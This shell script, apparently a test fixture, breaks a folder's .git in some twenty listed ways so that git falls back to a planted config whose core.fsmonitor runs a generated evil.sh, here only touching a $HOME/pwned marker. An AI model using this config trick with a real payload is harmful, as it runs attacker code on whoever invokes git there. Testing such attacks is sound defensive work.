# Makes .git something that git does not take for a repository, in the way that $1 says, and the
# folder around it one: git then looks there, and finds settings of ours. $2 is that folder.
cd "${2:-.}" || exit 1
printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
mkdir -p objects refs/heads
echo 'ref: refs/heads/main' >HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n\tfsmonitor = %s/evil.sh\n' "$PWD" "$PWD" >config
case $1 in
removed) rm -f .git/HEAD ;;
left) ;;
module) rm -f .git/modules/sub/HEAD ;;
moved) mv .git/HEAD .git/HEAD.aside ;;
nonsense) echo nonsense >.git/HEAD ;;
emptied) : >.git/HEAD ;;
outside-of-refs) echo 'ref: heads/main' >.git/HEAD ;;
folder) rm -f .git/HEAD && mkdir -p .git/HEAD/x ;;
link) rm -f .git/HEAD && ln -s /nowhere .git/HEAD ;;
unreadable) chmod 000 .git/HEAD ;;
without-objects) mv .git/objects .git/objects.aside ;;
file-for-objects) mv .git/objects .git/objects.aside && echo x >.git/objects ;;
without-refs) mv .git/refs .git/refs.aside ;;
link-for-refs) mv .git/refs .git/refs.aside && ln -s /nowhere .git/refs ;;
closed-objects) chmod 000 .git/objects ;;
closed-refs) chmod 000 .git/refs ;;
closed) chmod 000 .git ;;
removed-and-closed) rm -f .git/HEAD && chmod 555 .git ;;
without-refs-and-closed) mv .git/refs .git/refs.aside && chmod 555 .git ;;
*) exit 1 ;;
esac
echo done
